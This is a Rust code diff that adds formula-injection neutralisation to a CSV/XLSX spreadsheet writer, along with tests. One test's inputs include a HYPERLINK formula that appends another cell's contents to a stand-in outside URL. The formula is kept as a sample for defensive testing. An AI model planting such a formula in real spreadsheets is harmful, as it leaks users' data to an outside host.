@@ -68,7 +68,11 @@ impl SheetWriter {
     pub fn write_row<S: AsRef<str>>(&mut self, cells: &[S]) -> Result<(), SheetError> {
         match self {
             Self::Csv(writer) => writer
-                .write_record(cells.iter().map(AsRef::as_ref))
+                .write_record(
+                    cells
+                        .iter()
+                        .map(|c| crate::neutralised(c.as_ref()).into_owned()),
+                )
                 .map_err(|e| SheetError::Csv(e.to_string())),
             Self::Xlsx { workbook, rows } => {
                 if *rows >= XLSX_MAX_ROWS {
@@ -76,10 +80,10 @@ impl SheetWriter {
                 }
                 let sheet = workbook.worksheet_from_index(0).map_err(xlsx)?;
                 for (column, cell) in cells.iter().enumerate() {
-                    let text = cell.as_ref();
+                    let text = crate::neutralised(cell.as_ref());
                     if !text.is_empty() {
                         sheet
-                            .write_string(*rows, column as u16, text)
+                            .write_string(*rows, column as u16, text.as_ref())
                             .map_err(xlsx)?;
                     }
                 }
@@ -241,6 +245,65 @@ mod tests {
         assert_eq!(calamine::Reader::sheet_names(&workbook), ["学生", "选项"]);
         let lists = calamine::Reader::worksheet_range(&mut workbook, "选项").unwrap();
         assert_eq!(lists.get_value((55, 1)).unwrap().to_string(), "56");
+    }
+
+    #[test]
+    fn formula_like_text_is_written_neutralised_and_reads_back_as_it_was() {
+        let values = [
+            "=HYPERLINK(\"http://x.example/?\"&H2,\"点\")",
+            "+8613800000000",
+            "@SUM(1+1)",
+            "－1",
+            "王芳",
+            "'ok",
+        ];
+        for format in [Format::Csv, Format::Xlsx] {
+            let mut writer = SheetWriter::new(format).unwrap();
+            writer.write_row(&values).unwrap();
+            let bytes = writer.finish().unwrap();
+            if format == Format::Csv {
+                let text = String::from_utf8_lossy(&bytes);
+                assert!(
+                    text.contains("\"'=HYPERLINK") && text.contains("'+86"),
+                    "{text}"
+                );
+            } else {
+                let mut workbook: calamine::Xlsx<_> =
+                    calamine::Reader::new(std::io::Cursor::new(bytes.clone())).unwrap();
+                let sheet = calamine::Reader::worksheet_range(&mut workbook, "学生").unwrap();
+                assert_eq!(sheet.get_value((0, 2)).unwrap().to_string(), "'@SUM(1+1)");
+            }
+            let mut read = Vec::new();
+            let collect = |row: crate::Row| {
+                read = row.cells;
+                true
+            };
+            match format {
+                Format::Csv => {
+                    crate::read_csv(bytes.as_slice(), None, collect).unwrap();
+                }
+                Format::Xlsx => crate::read_xlsx(std::io::Cursor::new(bytes), collect).unwrap(),
+            }
+            assert_eq!(read, values, "{format:?}");
+        }
+    }
+
+    #[test]
+    fn a_long_number_cell_reads_as_the_spreadsheet_shows_it_not_as_digits() {
+        let mut workbook = rust_xlsxwriter::Workbook::new();
+        let sheet = workbook.add_worksheet();
+        sheet.write_number(0, 0, 350102202003115246.0).unwrap();
+        sheet.write_number(0, 1, 2135000101.0).unwrap();
+        let bytes = workbook.save_to_buffer().unwrap();
+        let mut cells = Vec::new();
+        crate::read_xlsx(std::io::Cursor::new(bytes), |row| {
+            cells = row.cells;
+            true
+        })
+        .unwrap();
+        assert!(cells[0].contains('E'), "{cells:?}");
+        assert_ne!(cells[0], "350102202003115246");
+        assert_eq!(cells[1], "2135000101");
     }
 
     #[test]
